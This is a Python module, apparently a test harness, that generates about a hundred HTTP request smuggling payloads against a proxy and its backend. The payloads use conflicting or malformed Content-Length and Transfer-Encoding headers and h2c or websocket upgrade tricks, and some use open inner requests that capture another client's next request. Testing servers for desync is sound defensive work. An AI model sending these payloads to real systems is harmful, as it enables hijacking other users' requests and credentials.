"""Ways to smuggle a request inside another, past a proxy or the server behind it."""

from collections.abc import Iterator
from dataclasses import dataclass

HOST = b"Host: chat.example\r\n"
JSON = b"Content-Type: application/json\r\n"


@dataclass(frozen=True)
class Attack:
    """What is sent, in segments; `hidden` is the id of the request that must not be heard alone."""

    name: str
    segments: tuple[bytes, ...]
    hidden: str


@dataclass(frozen=True)
class Attacker:
    """A client with a key of its own, and the path to which it may write."""

    key: bytes
    messages: bytes

    def attacks(self) -> Iterator[Attack]:
        """About a hundred of them."""
        for number, (name, lines, framed) in enumerate(_outer()):
            for way in range(4):
                hidden = f"hidden-{number}-{way}"
                yield Attack(f"{name}, {way}", self._segments(lines, framed, way, hidden), hidden)

    def _segments(self, lines: bytes, framed: bool, way: int, hidden: str) -> tuple[bytes, ...]:
        inner = self._inner(hidden, is_open=way % 2 == 1)
        outer = self._head(b"outer-" + hidden.encode(), lines)
        body = _framed(inner, lines) if framed else inner
        return (outer + body,) if way < 2 else (outer, body)

    def _head(self, request_id: bytes, lines: bytes) -> bytes:
        return b"POST %s HTTP/1.1\r\n%s%sX-Request-ID: %s\r\nAuthorization: Bearer %s\r\n%s\r\n" % (
            self.messages,
            HOST,
            JSON,
            request_id,
            self.key,
            lines,
        )

    def _inner(self, hidden: str, *, is_open: bool) -> bytes:
        """A create; an open one waits for the next request of somebody else to be its body."""
        body = b'{"body": "%s' % hidden.encode() + (b"" if is_open else b'"}')
        length = 600 if is_open else len(body)
        return self._head(hidden.encode(), b"Content-Length: %d\r\n" % length) + body


def _framed(inner: bytes, lines: bytes) -> bytes:
    """The inner request as a body: as chunks where the outer one says so somehow."""
    if b"hunked" in lines:
        return b"0\r\n\r\n" + inner
    return inner


def _outer() -> Iterator[tuple[str, bytes, bool]]:
    """Headers of the outer request, and whether the inner one stands behind a last chunk."""
    upgrade = b"Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABk\r\n"
    socket = (
        b"Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\n"
        b"Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n"
    )
    for name, lines in {
        "upgrade to h2c, no length": upgrade,
        "upgrade to h2c, length": upgrade + b"Content-Length: 2\r\n",
        "upgrade to a socket, no length": socket,
        "upgrade to a socket, length": socket + b"Content-Length: 4\r\n",
        "a wrong upgrade": socket.replace(b"13", b"777"),
        "no length": b"",
        "a short length": b"Content-Length: 3\r\n",
        "two lengths": b"Content-Length: 0\r\nContent-Length: 400\r\n",
        "a list of lengths": b"Content-Length: 0, 400\r\n",
        "a length with a sign": b"Content-Length: +0\r\n",
        "a length with a space": b"Content-Length : 400\r\n",
        "a length in the next line": b"Content-Length:\r\n 0\r\n",
        "a length by an underscore": b"Content_Length: 400\r\n",
        "an expectation": b"Expect: 100-continue\r\nContent-Length: 2\r\n",
        "a header that ends with LF": b"X-A: b\nContent-Length: 0\r\n",
        "a length for one hop": b"Connection: Content-Length\r\nContent-Length: 400\r\n",
    }.items():
        yield name, lines, False
    for name, lines in {
        "chunks and a length": b"Transfer-Encoding: chunked\r\nContent-Length: 400\r\n",
        "a length and chunks": b"Content-Length: 5\r\nTransfer-Encoding: chunked\r\n",
        "chunks with a space": b"Transfer-Encoding : chunked\r\nContent-Length: 400\r\n",
        "chunks with a tab": b"Transfer-Encoding:\tchunked\r\nContent-Length: 400\r\n",
        "chunks with a control byte": b"Transfer-Encoding: \x0bchunked\r\nContent-Length: 5\r\n",
        "chunks in the next line": b"Transfer-Encoding:\r\n chunked\r\nContent-Length: 400\r\n",
        "chunks that are none": b"Transfer-Encoding: xchunked\r\nContent-Length: 400\r\n",
        "chunks twice": b"Transfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n",
        "chunks by an underscore": b"Transfer_Encoding: chunked\r\nContent-Length: 400\r\n",
        "chunks in quotes": b'Transfer-Encoding: "chunked"\r\nContent-Length: 400\r\n',
        "chunks after LF": b"X-A: b\nTransfer-Encoding: chunked\r\nContent-Length: 400\r\n",
        "chunks and an upgrade": upgrade + b"Transfer-Encoding: chunked\r\n",
        "chunks and an expectation": b"Transfer-Encoding: chunked\r\nExpect: 100-continue\r\n",
    }.items():
        yield name, lines, True
